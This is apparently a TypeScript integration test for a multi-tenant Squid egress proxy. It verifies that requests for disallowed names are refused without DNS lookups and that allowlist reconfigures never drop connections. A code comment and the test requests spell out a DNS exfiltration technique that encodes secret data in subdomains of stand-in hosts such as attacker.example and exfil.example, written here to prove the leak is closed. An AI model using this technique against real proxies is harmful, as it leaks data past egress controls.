// The egress proxy is no DNS channel: a request for a name no tenant allowed is refused without Squid
// resolving it (a "dst" ACL before the tenants' name rules made it look up every requested name, so
// `curl -x proxy http://<data>.attacker.example/` leaked <data> through DNS even when refused). A real
// Squid of the test's own, with its tenant fragment written by the real provider handler, asks a resolver
// the test runs on 127.0.0.1:53, which records every query and answers NXDOMAIN.
import { execFile } from "node:child_process";
import { createSocket, type Socket } from "node:dgram";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { livePid, run, waitFor } from "../../lib/process.js";
import { tcpReachable } from "../../lib/host/net.js";
import { squidPaths, squidProxy } from "../../lib/host/squid.js";
import { squidTenantHandler, SquidTenantInputs } from "../../provider/resources/squid-tenant.js";
import { isolatedHostConfig } from "../helpers/host.js";

const exec = promisify(execFile);
let host: Awaited<ReturnType<typeof isolatedHostConfig>>;
let resolver: Socket;
const queries: string[] = [];
let tenant: Awaited<ReturnType<typeof squidTenantHandler.create>>;

/** The query name of a DNS message (RFC 1035 §4.1.2: length-prefixed labels from byte 12). */
function questionName(message: Buffer): string {
  const labels: string[] = [];
  for (let at = 12; at < message.length && message[at]! > 0; at += message[at]! + 1)
    labels.push(message.subarray(at + 1, at + 1 + message[at]!).toString("latin1"));
  return labels.join(".");
}

beforeAll(async () => {
  resolver = createSocket("udp4");
  resolver.on("message", (message, peer) => {
    queries.push(questionName(message));
    // NXDOMAIN (QR, RD, RA set; RCODE 3): Squid learns at once that the name does not resolve.
    const answer = Buffer.from(message);
    answer[2] = 0x81;
    answer[3] = 0x83;
    resolver.send(answer, peer.port, peer.address);
  });
  await new Promise<void>((resolve, reject) => {
    resolver.once("error", reject);
    resolver.bind(53, "127.0.0.1", () => resolve());
  });
  host = await isolatedHostConfig();
  await squidProxy({ port: host.squidPort, dnsNameservers: ["127.0.0.1"], ...host }).ensure(() => undefined);
  // A tenant whose "subnet" is the loopback, so that the test's own requests are that tenant's.
  tenant = await squidTenantHandler.create(
    SquidTenantInputs.parse({
      tenantId: "dnsprobe",
      subnet: "127.0.0.0/8",
      domains: ["allowed.sandbox.test"],
      ...squidFiles(),
    }),
  );
}, 120_000);

function squidFiles() {
  return { configFile: squidPaths(host).config, fragmentsDir: squidPaths(host).fragmentsDir };
}

afterAll(async () => {
  resolver?.close();
  if (host) {
    await run("squid", ["-k", "shutdown", "-f", squidPaths(host).config]).catch(() => undefined);
    await waitFor("squid to exit", 15_000, async () =>
      (await livePid(squidPaths(host).pidFile)) ? undefined : true,
    ).catch(() => undefined);
  }
}, 60_000);

/** The proxy's HTTP status for a GET of `url` through it (`000`: no answer, e.g. a refused connection). */
async function through(url: string): Promise<string> {
  const curl = exec("curl", [
    ...["-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", "20"],
    ...["-x", `http://127.0.0.1:${host.squidPort}`, url],
  ]);
  // curl exits non-zero on a reset or empty answer; its status output is what the test compares.
  return curl.then(
    ({ stdout }) => stdout,
    (error: { stdout?: string }) => error.stdout || "000",
  );
}

describe("the egress proxy and DNS", () => {
  it("refuses a name no tenant allowed without resolving it; resolves an allowed one to check where it leads", async () => {
    const secret = `secret-payload-${Date.now()}`;
    const refused = [
      await through(`http://${secret}.exfil.example/`),
      await through(`http://${secret}-connect.exfil.example:443/`),
    ];
    // The allowed name is resolved (the proxy checks it does not lead inward): the resolver is really
    // asked, so the silence below is the rule's, not a resolver Squid never uses.
    await through("http://allowed.sandbox.test/");
    await waitFor("the allowed name's lookup", 10_000, async () =>
      queries.some((q) => q === "allowed.sandbox.test") ? true : undefined,
    );
    expect(queries.filter((q) => q.includes("exfil"))).toEqual([]);
    expect(refused).toEqual(["403", "403"]);
  });
});

describe("a tenant's allowlist change", () => {
  // A reconfigure closes Squid's listening port and opens it again after re-reading the config. The
  // handler used to return as soon as the signal was sent, so a create answered "running" while the
  // port was still closed and the tenant's first request met a refused connection (seen in a CI run). Each
  // change here is followed at once by a request: every one must get Squid's answer, never `000`, and a
  // name the change allowed is allowed by whichever worker answers (every worker has re-read the config).
  it("returns only once every worker has re-read the config, so the next request is answered by the new one", async () => {
    const statuses: string[] = [];
    const added: string[] = [];
    for (let change = 0; change < 12; change++) {
      const extra = `extra-${change}.sandbox.test`;
      const domains = ["allowed.sandbox.test", ...(change % 2 ? [extra] : [])];
      const news = SquidTenantInputs.parse({
        tenantId: "dnsprobe",
        subnet: "127.0.0.0/8",
        domains,
        ...squidFiles(),
      });
      tenant = { ...tenant, outs: await squidTenantHandler.update(tenant.id, tenant.outs, news) };
      statuses.push(await through(`http://refused-${change}.exfil.example/`));
      // Allowed: Squid looks the name up (NXDOMAIN here) and answers a 5xx, not the ACL's 403.
      if (change % 2) added.push(await through(`http://${extra}/`));
    }
    expect(statuses).toEqual(Array(12).fill("403"));
    expect(added.filter((status) => !/^5\d\d$/.test(status))).toEqual([]);
    expect(added).toHaveLength(6);
  }, 120_000);

  // One Squid serves every tenant of a host, so any tenant's change reconfigures it. With one worker that
  // closed the only listening port for each reconfigure, and every other tenant's new connection in those
  // milliseconds (hundreds on a busy host) was refused: a warm pool refilling after a claim broke the
  // claimed sandbox's first request (curl's 000 in a CI run). The workers' coordinator now holds the port.
  it("never refuses another tenant's connection while one tenant's allowlist changes", async () => {
    const neighbour = await squidTenantHandler.create(
      SquidTenantInputs.parse({
        tenantId: "neighbour",
        subnet: "198.51.100.0/24",
        domains: ["neighbour.sandbox.test"],
        ...squidFiles(),
      }),
    );
    let changing = true;
    const outcomes = { connected: 0, refused: 0 };
    const statuses: string[] = [];
    // Connections as fast as loopback takes them, and a request through each 20th, until the changes end.
    const hammer = (async () => {
      for (let n = 0; changing; n++) {
        if (n % 20 === 0) statuses.push(await through("http://hammered.exfil.example/"));
        await tcpReachable("127.0.0.1", host.squidPort, 2_000).then(
          () => outcomes.connected++,
          () => outcomes.refused++,
        );
      }
    })();
    try {
      let outs = neighbour.outs;
      for (let change = 0; change < 12; change++) {
        const news = SquidTenantInputs.parse({
          tenantId: "neighbour",
          subnet: "198.51.100.0/24",
          domains: ["neighbour.sandbox.test", ...(change % 2 ? [`n-${change}.sandbox.test`] : [])],
          ...squidFiles(),
        });
        outs = await squidTenantHandler.update(neighbour.id, outs, news);
      }
      changing = false;
      await hammer;
      await squidTenantHandler.delete(neighbour.id, outs);
    } finally {
      changing = false;
    }
    expect(outcomes.refused, `${outcomes.connected} connected`).toBe(0);
    expect(outcomes.connected).toBeGreaterThan(100);
    expect(new Set(statuses)).toEqual(new Set(["403"]));
  }, 120_000);
});
